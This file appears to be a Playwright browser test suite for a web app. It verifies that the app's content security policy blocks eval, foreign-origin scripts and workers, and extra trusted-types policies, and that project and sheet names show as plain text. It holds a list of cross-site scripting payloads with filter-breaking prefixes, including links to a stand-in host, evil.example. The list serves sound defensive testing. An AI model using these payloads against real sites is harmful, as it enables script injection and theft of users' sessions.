/** The content security policy in a browser: what scripts may not do, and names that look like scripts. */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchBrowser } from '../support/browser.ts';
import { openPage } from '../support/compare-page.ts';
import {
  contents,
  document,
  drawing,
  ME,
  openSignedIn,
  project,
  sheet,
  summary,
} from '../support/mocked-api.ts';
import type { Answers } from '../support/mocked-api.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

/**
 * Each reports its result in `window.probe`. The policy does not bind the browser's own tools, but it does bind scripts.
 */
const PROBE = `
  const probe = {};
  const attempt = (name, act) => {
    try { act(); probe[name] = 'done'; } catch (error) { probe[name] = error.name; }
  };
  attempt('html', () => { document.createElement('p').innerHTML = '<b>x</b>'; });
  attempt('no html', () => { document.createElement('p').innerHTML = ''; });
  attempt('code', () => { eval('1'); });
  attempt('another policy', () => { trustedTypes.createPolicy('another', { createHTML: (x) => x }); });
  attempt('a second default policy', () => { trustedTypes.createPolicy('default', { createHTML: (x) => x }); });
  attempt('worker of an uploaded file', () => { new Worker('/files/a.js'); });
  attempt('worker of another origin', () => { new Worker('https://evil.example/assets/a.js'); });
  attempt('worker of a blob', () => { new Worker(URL.createObjectURL(new Blob(['1']))); });
  attempt('script of another origin', () => { document.createElement('script').src = 'https://evil.example/assets/a.js'; });
  attempt('script of ours', () => { document.createElement('script').src = '/assets/a.js'; });
  window.probe = probe;
`;

describe('a script on the page', () => {
  it('makes neither HTML nor code of text, and loads scripts of the build alone', async () => {
    const { page, context } = await openPage(browser, `${inject('baseUrl')}/compare`, {
      before: (opened) =>
        opened.route('**/assets/probe.js', (route) =>
          route.fulfill({ contentType: 'text/javascript', body: PROBE }),
        ),
    });
    await page.evaluate(() => {
      const script = window.document.createElement('script');
      script.src = '/assets/probe.js';
      window.document.head.append(script);
    });
    await page.waitForFunction(() => 'probe' in window);
    const probe = await page.evaluate(() => (window as unknown as { probe: object }).probe);
    expect(probe).toEqual({
      html: 'TypeError',
      'no html': 'done',
      code: 'EvalError',
      'another policy': 'TypeError',
      'a second default policy': 'TypeError',
      'worker of an uploaded file': 'TypeError',
      'worker of another origin': 'TypeError',
      'worker of a blob': 'TypeError',
      'script of another origin': 'TypeError',
      'script of ours': 'done',
    });
    await context.close();
  });
});

/** Runs a script where names become HTML, in forms that get past filters. */
const ATTACKS = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror=window.pwned=1>',
  '<svg/onload=window.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<a href="javascript:window.pwned=1">x</a>',
  '<math><mtext></mtext><style><img src onerror=pwned=1></style></math>',
  '<details open ontoggle=window.pwned=1>',
  '<base href="https://evil.example/">',
  '{{constructor.constructor("pwned=1")()}}',
  'javascript:window.pwned=1',
  '${window.pwned=1}',
  '<link rel=stylesheet href=https://evil.example/x.css>',
];
const FRAMES = ['', '"><', "'>", '</title></textarea>', ']]>-->'];
const PAYLOADS = ATTACKS.flatMap((attack) => FRAMES.map((frame) => frame + attack));

/** What the policy blocked, and dialogs that opened. */
async function watch(page: Page): Promise<string[]> {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.exposeFunction('tellViolation', (what: string) => seen.push(what));
  const listen = () =>
    window.document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { tellViolation(what: string): void }).tellViolation(
        `${event.violatedDirective}: ${event.blockedURI} ${event.sample}`,
      );
    });
  await page.addInitScript(listen);
  await page.evaluate(listen);
  return seen;
}

/** The attacks whose text is visible on the page. */
async function shown(page: Page): Promise<string[]> {
  const text = await page.evaluate(() => window.document.body.innerText);
  return PAYLOADS.filter((payload) => text.includes(payload));
}

const at = (index: number) => PAYLOADS[index % PAYLOADS.length] ?? '';

describe('names that would be scripts', () => {
  const sheets = PAYLOADS.map((payload, index) =>
    sheet(index + 1, {
      sheet_num: at(index + 1),
      sheet_title: payload,
      discipline: at(index + 2),
      document_name: at(index + 3),
      drawings: [drawing(index + 1, at(index + 4), [200, 200, 2600, 1600])],
    }),
  );
  const file = { ...document(10).file, name: at(5) };
  const answers: Answers = {
    'GET /users/me': {
      body: {
        ...ME,
        full_name: at(6),
        user_organizations: [{ organization: { id: 1, name: at(7) } }],
      },
    },
    'GET /users/me/projects': {
      body: { data: PAYLOADS.map((name, index) => summary(index + 1, { name })) },
    },
    'GET /projects/1': {
      body: project([document(10, { file, page_count: PAYLOADS.length })], { name: at(1) }),
    },
    'GET /projects/1/documents': { body: { data: [document(10, { file })] } },
    'GET /projects/1/tasks': { body: { data: [] } },
    'GET /projects/1/table-of-contents': { body: contents(sheets) },
    'GET /documents/10/thumbnails': { body: { data: [] } },
    'POST /storage/presigned-url': (route) =>
      route.fulfill({
        json: {
          file_key: file.file_key,
          signed_url: new URL('/sample/issue-1.pdf', route.request().url()).href,
        },
      }),
  };

  it('stand in the list of projects as they were typed', async () => {
    const { page, context } = await openSignedIn(browser, inject('baseUrl'), '/', { answers });
    const seen = await watch(page);
    await page.reload();
    await expect.poll(async () => (await shown(page)).length).toBeGreaterThan(5);
    await page.mouse.wheel(0, 20_000);
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
    expect(seen).toEqual([]);
    await context.close();
  });

  it('stand in the workspace and on its sheets as they were read', async () => {
    const { page, context } = await openSignedIn(
      browser,
      inject('baseUrl'),
      '/projects/1?documentId=10&sheetId=1',
      { answers },
    );
    const seen = await watch(page);
    await page.reload();
    await page.getByRole('treeitem').first().waitFor();
    await expect.poll(async () => (await shown(page)).length).toBeGreaterThan(5);
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
    expect(seen).toEqual([]);
    await context.close();
  });
});
